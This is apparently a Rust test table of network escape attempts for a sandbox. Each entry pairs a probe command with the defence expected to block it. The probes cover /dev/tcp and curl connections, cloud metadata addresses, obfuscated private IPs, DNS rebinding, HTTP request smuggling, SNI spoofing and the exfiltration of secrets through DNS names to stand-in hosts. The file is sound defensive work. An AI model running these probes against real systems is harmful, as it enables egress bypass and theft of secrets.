//! Attacks over the network.

use super::{Attack, Evidence, Group, Prop, Under};

const fn attack(name: &'static str, tries: &'static str, line: &'static str) -> Attack {
    Attack::new(Group::Network, name, tries, line)
}

const HOSTS: Under = Under::PLAIN.network(
    "[\"allowed.example:80\", \"allowed.example:443\", \"*.wild.example:80\", \"private.example:80\", \"loop.example:80\", \
     \"link.example:80\", \"own.example:80\", \"mapped.example:80\", \"mixed.example:80\", \"rebind.example:80\"]",
);
const CREDENTIAL: Under = Under::PLAIN
    .network("[\"allowed.example:8443\", \"other.example:8443\"]")
    .more("[[secrets]]\nname = \"token\"\nhost = \"allowed.example:8443\"\nheader = \"authorization: Bearer {}\"\n");
const NOBODY_ADDS: &str = "nobody adds a secret there";
const OPEN: Under = Under::PLAIN.network("true");
const CUT_BY: &[&str] = &["netns", "seccomp", "landlock"];
const ADDRESS: &[&str] = &["address_rule"];
const SNI: &[&str] = &["sni_rule"];
const HTTP: &[&str] = &["http_rule"];
const DNS: &[&str] = &["dns_rule"];

pub(super) const ATTACKS: &[Attack] = &[
    attack("no-network-host", "connects to the host's loopback", "tcp 127.0.0.1 {port}").held(&["EPERM"], CUT_BY),
    attack("no-network-lan", "connects to a machine of the local network", "tcp 10.1.2.3 80").held(&["EPERM"], CUT_BY),
    attack("no-network-public", "connects to a machine of the Internet", "tcp 93.184.216.34 80").held(&["EPERM"], CUT_BY),
    attack("no-network-metadata", "connects to the cloud's metadata service", "tcp 169.254.169.254 80").held(&["EPERM"], CUT_BY),
    attack("no-network-sixth", "connects by IPv6", "tcp fd00:ec2::254 80").held(&["EPERM"], CUT_BY),
    attack("no-network-datagram", "sends a datagram", "udp 93.184.216.34 5000").held(&["EPERM"], CUT_BY),
    attack("no-network-name", "asks a name server", "ask-name canary-{mark}.other.example 1 9.9.9.9").held(&["EPERM"], CUT_BY).shown_by(Evidence::Heard("canary-{mark}")),
    attack("no-network-resolver", "has the system's resolver ask for a name that carries a secret", "tcp leak-{mark}.other.example 80").held(&["NOTHING no such name"], &["netns", "seccomp", "landlock", "mounts"]).shown_by(Evidence::Heard("leak-{mark}")),
    attack("no-network-shell", "has the shell connect", "bash exec 3<>/dev/tcp/93.184.216.34/80 && echo breached: connected || echo held: EPERM").held(&["EPERM"], CUT_BY),
    attack("no-network-curl", "has curl fetch, without any proxy", "sh curl -s -m 2 --noproxy '*' http://93.184.216.34/ | grep reached >/dev/null && echo breached: fetched || echo held: EXIT").held(&["EXIT"], CUT_BY),
    attack("no-network-python", "has an interpreter connect", "python import socket;s=socket.create_connection(('93.184.216.34',80),2);print('breached: connected')").held(&["EXIT"], CUT_BY),
    attack("interfaces", "looks for the host's network interfaces", "interfaces").held(&["ENOENT"], &["netns", "proc", "mounts", "landlock"]),
    attack("connections", "finds a host's listener in the kernel's tables", "connections {port}").held(&["ENOENT"], &["netns", "proc", "mounts", "landlock"]),
    attack("socket-raw", "makes a socket that forges packets", "socket 2 3 255").held(&["EPERM"], &["seccomp", "capabilities", "netns", "userns_uid"]).as_root().no_twin("the user namespace alone holds it too, and no jail is built without one"),
    attack("socket-packet", "makes a socket that hears every packet", "socket 17 3 768").held(&["EPERM"], &["seccomp", "capabilities", "netns", "userns_uid"]).as_root().no_twin("the user namespace alone holds it too, and no jail is built without one"),
    attack("socket-ping", "makes a socket for echo requests", "socket 2 2 1").held(&["EPERM"], &["seccomp", "netns", "userns_uid"]).as_root().if_had(&["EACCES"]).no_twin("the user namespace alone holds it too, and no jail is built without one"),
    attack("socket-netlink", "makes a socket that configures the network", "socket 16 3 0").held(&["EPERM"], &["seccomp"]),
    attack("socket-audit", "makes a socket to the kernel's audit", "socket 16 3 9").held(&["EPERM"], &["seccomp"]).if_had(&["EAFNOSUPPORT", "EPROTONOSUPPORT"]),
    attack("socket-vsock", "makes a socket to the hypervisor, which no namespace hides", "socket 40 1 0").held(&["EPERM"], &["seccomp"]).if_had(&["EAFNOSUPPORT", "EPROTONOSUPPORT"]),
    attack("socket-crypto", "makes a socket to the kernel's ciphers", "socket 38 5 0").held(&["EPERM"], &["seccomp"]).if_had(&["EAFNOSUPPORT", "EPROTONOSUPPORT"]),
    attack("socket-xdp", "makes a socket past the network stack", "socket 44 3 0").held(&["EPERM"], &["seccomp", "capabilities", "netns", "userns_uid"]).as_root().if_had(&["EAFNOSUPPORT", "EPROTONOSUPPORT"]).no_twin("the user namespace alone holds it too, and no jail is built without one"),
    attack("socket-bluetooth", "makes a Bluetooth socket", "socket 31 3 1").held(&["EPERM"], &["seccomp"]).if_had(&["EAFNOSUPPORT", "EPROTONOSUPPORT"]),
    attack("socket-can", "makes a socket to a vehicle's bus", "socket 29 3 1").held(&["EPERM"], &["seccomp"]).if_had(&["EAFNOSUPPORT", "EPROTONOSUPPORT"]),
    attack("socket-tipc", "makes a cluster socket", "socket 30 1 0").held(&["EPERM"], &["seccomp"]).if_had(&["EAFNOSUPPORT", "EPROTONOSUPPORT"]),
    attack("socket-smc", "makes a socket over shared memory", "socket 43 1 0").held(&["EPERM"], &["seccomp"]).if_had(&["EAFNOSUPPORT", "EPROTONOSUPPORT"]),
    attack("abstract", "connects to a host's socket that has no place in the file system", "abstract {house}-host").held(&["EPERM"], CUT_BY),
    attack("neighbour-abstract", "meets a second jail at an abstract socket", "sh for n in 1 2 3 4 5 6 7 8; do {attack} abstract {mark}-jail > {workspace}/said; grep breached {workspace}/said && exit; sleep 0.2; done; cat {workspace}/said").with(Prop::Neighbour("abstract-serve {mark}-jail")).held(&["EPERM"], CUT_BY),
    attack("neighbour-port", "meets a second jail at a port", "sh for n in 1 2 3 4 5 6 7 8; do {attack} tcp 127.0.0.1 4711 > {workspace}/said; grep breached {workspace}/said && exit; sleep 0.2; done; cat {workspace}/said").with(Prop::Neighbour("serve 4711")).held(&["EPERM"], CUT_BY),
    attack("other-host", "connects to a host that is not in the list", "tcp other.example 80").under(HOSTS).held(&["NOTHING no such name"], &["dns_rule", "address_rule", "http_rule"]),
    attack("other-address", "connects to an address that is not in the list", "tcp 151.101.1.1 80").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], &["address_rule", "http_rule", "dns_rule"]),
    attack("other-port", "connects to a port that another host was granted at", "hello one.wild.example 443 one.wild.example whole").under(HOSTS).held(&["NOTHING another answer", "ECONNRESET", "NOTHING closed"], &["port_rule"]),
    attack("other-port-address", "connects to the ssh port of a machine", "tcp 93.184.216.34 22").under(HOSTS).held(&["ECONNREFUSED"], &["port_rule", "address_rule"]).no_twin("nothing listens at a port that no host was granted at"),
    attack("suffix", "a name that ends in an allowed name", "tcp evilallowed.example 80").under(HOSTS).held(&["NOTHING no such name"], &["dns_rule", "http_rule"]),
    attack("prefix", "a name that begins with an allowed name", "tcp allowed.example.evil.example 80").under(HOSTS).held(&["NOTHING no such name"], &["dns_rule", "http_rule"]),
    attack("below-exact", "a name below an exact one", "tcp below.allowed.example 80").under(HOSTS).held(&["NOTHING no such name"], &["dns_rule", "http_rule"]),
    attack("wildcard-itself", "the name that a wildcard hangs on", "tcp wild.example 80").under(HOSTS).held(&["NOTHING no such name"], &["dns_rule", "http_rule"]),
    attack("wildcard-suffix", "a name that ends like the wildcard's without its dot", "tcp evilwild.example 80").under(HOSTS).held(&["NOTHING no such name"], &["dns_rule", "http_rule"]),
    attack("metadata-address", "the metadata service by its address, with public hosts allowed", "tcp 169.254.169.254 80").under(OPEN).held(&["NOTHING another answer: HTTP/1.1 403"], ADDRESS),
    attack("metadata-other-cloud", "another cloud's metadata service", "tcp 100.100.100.200 80").under(OPEN).held(&["NOTHING another answer: HTTP/1.1 403"], ADDRESS),
    attack("metadata-name", "the metadata service by its name", "tcp metadata.google.internal 80").under(OPEN).held(&["NOTHING no such name"], &["dns_rule", "http_rule", "address_rule"]),
    attack("metadata-linked", "an allowed name that leads to the metadata service", "tcp link.example 80").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], &["address_rule", "http_rule"]),
    attack("private-name", "an allowed name that leads to a private address", "tcp private.example 80").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], &["address_rule", "http_rule"]),
    attack("loopback-name", "an allowed name that leads to the host's loopback", "say loop.example 80 GET\\s/\\sHTTP/1.1\\r\\nHost:\\sloop.example\\r\\n\\r\\n reached").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], ADDRESS),
    attack("own-name", "an allowed name that leads to the host's own address", "say own.example 80 GET\\s/\\sHTTP/1.1\\r\\nHost:\\sown.example\\r\\n\\r\\n reached").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], ADDRESS),
    attack("mapped-name", "an allowed name that leads to a private address in IPv6 clothes", "say mapped.example 80 GET\\s/\\sHTTP/1.1\\r\\nHost:\\smapped.example\\r\\n\\r\\n reached").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], ADDRESS),
    attack("mixed-name", "an allowed name with a public and a private address", "say mixed.example 80 GET\\s/\\sHTTP/1.1\\r\\nHost:\\smixed.example\\r\\n\\r\\n reached\\s10.").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], ADDRESS),
    attack("rebound-name", "a name that is public when first asked and private from then on", "sh for n in 1 2 3 4; do {attack} say rebind.example 80 'GET / HTTP/1.1\\r\\nHost: rebind.example\\r\\n\\r\\n' 'reached 10.' > {workspace}/said; grep breached {workspace}/said && exit; done; cat {workspace}/said").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], ADDRESS),
    attack("address-private", "a private address, with public hosts allowed", "tcp 10.1.2.3 80").under(OPEN).held(&["NOTHING another answer: HTTP/1.1 403"], ADDRESS),
    attack("address-private-second", "another private range", "tcp 172.16.5.5 80").under(OPEN).held(&["NOTHING another answer: HTTP/1.1 403"], ADDRESS),
    attack("address-private-third", "a third private range", "tcp 192.168.7.7 80").under(OPEN).held(&["NOTHING another answer: HTTP/1.1 403"], ADDRESS),
    attack("address-shared", "the range that providers share", "tcp 100.64.3.3 80").under(OPEN).held(&["NOTHING another answer: HTTP/1.1 403"], ADDRESS),
    attack("address-decimal", "a private address as one number", "tcp 167838211 80").under(OPEN).held(&["NOTHING another answer: HTTP/1.1 403"], &["address_rule", "http_rule"]),
    attack("address-hex", "a private address in hexadecimal", "tcp 0x0a010203 80").under(OPEN).held(&["NOTHING another answer: HTTP/1.1 403"], &["address_rule", "http_rule"]),
    attack("address-octal", "a private address in octal", "tcp 012.01.02.03 80").under(OPEN).held(&["NOTHING another answer: HTTP/1.1 403"], &["address_rule", "http_rule"]),
    attack("address-short", "a private address of two numbers", "tcp 10.66051 80").under(OPEN).held(&["NOTHING another answer: HTTP/1.1 403"], &["address_rule", "http_rule"]),
    attack("address-mapped", "a private address mapped into IPv6", "tcp ::ffff:10.1.2.3 80").under(OPEN).held(&["NOTHING another answer: HTTP/1.1 403"], &["address_rule", "http_rule"]),
    attack("address-sixth", "the metadata service's IPv6 address", "tcp fd00:ec2::254 80").under(OPEN).held(&["EADDRNOTAVAIL"], &[]).no_twin("there is no IPv6 in a jail: nothing to unplug"),
    attack("hello-other", "an allowed host by address, another one by TLS name", "hello allowed.example 443 other.example whole").under(HOSTS).held(&["NOTHING another answer"], SNI),
    attack("hello-nameless", "a TLS greeting without a name", "hello allowed.example 443 - whole").under(HOSTS).held(&["NOTHING another answer"], SNI),
    attack("hello-encrypted", "a TLS greeting with a second, encrypted one inside", "hello allowed.example 443 allowed.example encrypted").under(HOSTS).held(&["NOTHING another answer"], SNI),
    attack("hello-fragments", "another name in a greeting that comes in pieces", "hello allowed.example 443 other.example fragments").under(HOSTS).held(&["NOTHING another answer"], SNI),
    attack("hello-records", "another name in a greeting that is spread over many records", "hello allowed.example 443 other.example records").under(HOSTS).held(&["NOTHING another answer"], SNI),
    attack("hello-plain", "no TLS at all at the port for it", "say allowed.example 443 SSH-2.0-attack\\r\\n reached").under(HOSTS).held(&["EAGAIN", "NOTHING", "ECONNRESET"], &["sni_rule", "http_rule"]),
    attack("request-other-host", "an HTTP request for another host", "say allowed.example 80 GET\\s/\\sHTTP/1.1\\r\\nHost:\\sother.example\\r\\n\\r\\n host=other.example").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], HTTP),
    attack("request-two-hosts", "an HTTP request for two hosts", "say allowed.example 80 GET\\s/\\sHTTP/1.1\\r\\nHost:\\sallowed.example\\r\\nHost:\\sother.example\\r\\n\\r\\n host=other.example").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], HTTP),
    attack("request-absolute", "an HTTP request whose target names another host", "say allowed.example 80 GET\\shttp://other.example/\\sHTTP/1.1\\r\\nHost:\\sallowed.example\\r\\n\\r\\n reached").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], HTTP),
    attack("request-hostless", "an HTTP request for no host", "say allowed.example 80 GET\\s/\\sHTTP/1.0\\r\\n\\r\\n reached").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], HTTP),
    attack("request-folded", "a host that goes on in the next line", "say allowed.example 80 GET\\s/\\sHTTP/1.1\\r\\nHost:\\sallowed.example\\r\\n\\s.evil\\r\\n\\r\\n reached").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], HTTP),
    attack("request-second", "a second request for another host on the same connection", "say allowed.example 80 GET\\s/\\sHTTP/1.1\\r\\nHost:\\sallowed.example\\r\\n\\r\\nGET\\s/\\sHTTP/1.1\\r\\nHost:\\sother.example\\r\\n\\r\\n host=other.example").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], HTTP),
    attack("request-smuggled", "a second request inside the first one's body", "say allowed.example 80 POST\\s/\\sHTTP/1.1\\r\\nHost:\\sallowed.example\\r\\nContent-Length:\\s4\\r\\nTransfer-Encoding:\\schunked\\r\\n\\r\\n0\\r\\n\\r\\nGET\\s/\\sHTTP/1.1\\r\\nHost:\\sother.example\\r\\n\\r\\n host=other.example").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], HTTP),
    attack("request-tunnel", "asks an allowed host to connect on", "say allowed.example 80 CONNECT\\sother.example:80\\sHTTP/1.1\\r\\nHost:\\sother.example:80\\r\\n\\r\\n reached").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], HTTP),
    attack("request-user", "a host behind a user's name", "say allowed.example 80 GET\\shttp://allowed.example@other.example/\\sHTTP/1.1\\r\\nHost:\\sallowed.example@other.example\\r\\n\\r\\n reached").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], HTTP),
    attack("request-preface", "HTTP/2 without asking", "say allowed.example 80 PRI\\s*\\sHTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n reached").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], HTTP),
    attack("request-binary", "no protocol that anybody knows", "say allowed.example 80 \\0\\0\\0\\0attack reached").under(HOSTS).held(&["NOTHING"], &["http_rule", "sni_rule"]).no_twin("what is no known protocol at all has no rule that could be unplugged"),
    attack("name-leak", "carries a secret out in a name to be looked up", "tcp leak-{mark}.evil.example 80").under(HOSTS).held(&["NOTHING no such name"], &["dns_rule", "http_rule", "address_rule"]).shown_by(Evidence::Heard("leak-{mark}")),
    attack("name-leak-text", "the same, asking for a text", "ask-name text-{mark}.evil.example 16 127.0.0.53").under(HOSTS).held(&["NOTHING"], DNS).shown_by(Evidence::Heard("text-{mark}")).not_outside("there is no such name server outside").no_twin("a name server that answers addresses alone has no such question to pass on"),
    attack("name-leak-below", "a secret in a name below a wildcard", "tcp below-{mark}.evil.example 80").under(HOSTS).held(&["NOTHING no such name"], &["dns_rule", "http_rule", "address_rule"]).shown_by(Evidence::Heard("below-{mark}")),
    attack("name-server-other", "asks a name server of its own choice", "ask-name own-{mark}.evil.example 1 9.9.9.9").under(HOSTS).held(&["EAGAIN"], &["netns", "seccomp", "landlock"]).shown_by(Evidence::Heard("own-{mark}")).no_twin("a jail with hosts is not built without its own network"),
    attack("datagram-allowed", "sends a datagram to an allowed host", "udp allowed.example 5000").under(HOSTS).held(&["ECONNREFUSED"], &["netns", "seccomp", "landlock", "dns_rule"]).no_twin("a jail with hosts is not built without its own network"),
    attack("name-upper", "an allowed name in upper case keeps its address rule", "say PRIVATE.EXAMPLE 80 GET\\s/\\sHTTP/1.1\\r\\nHost:\\sprivate.example\\r\\n\\r\\n reached").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], ADDRESS),
    attack("name-dot", "an allowed name with a dot at the end keeps its address rule", "say private.example. 80 GET\\s/\\sHTTP/1.1\\r\\nHost:\\sprivate.example\\r\\n\\r\\n reached").under(HOSTS).held(&["NOTHING another answer: HTTP/1.1 403"], ADDRESS),
    attack("quota-connections", "holds more connections open at once than one run may", "python import socket;held=[socket.create_connection(('allowed.example',80),5) for n in range(70)];last=held[-1];last.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n');print('breached: the last one is answered' if b'200 OK' in last.recv(99) else 'held: NOTHING came back')").under(HOSTS).held(&["NOTHING", "EXIT"], &["quota"]),
    attack("secret-echo", "has a host say which secret came with a request", "python import urllib.request as u;text=u.urlopen('http://allowed.example/').read().decode();print('breached: '+text if '{canary}' in text else 'held: NOTHING but '+text if 'with Bearer ***' in text else 'cannot tell: '+text)").under(CREDENTIAL).with(Prop::Credential).held(&["NOTHING but"], &["scrub"]).not_outside(NOBODY_ADDS),
    attack("secret-other-host", "asks another host for the secret of the first one", "python import ssl,urllib.request as u;text=u.urlopen('https://other.example:8443/',context=ssl._create_unverified_context()).read().decode();print('breached: '+text if '{canary}' in text else 'held: NOTHING but '+text if 'reached other.example:8443' in text else 'cannot tell: '+text)").under(CREDENTIAL).with(Prop::Credential).held(&["NOTHING but"], &["audience", "scrub"]).not_outside(NOBODY_ADDS),
    attack("empty-list", "an empty list of hosts", "tcp 93.184.216.34 80").under(Under::PLAIN.network("[]")).held(&["EPERM"], CUT_BY),
];
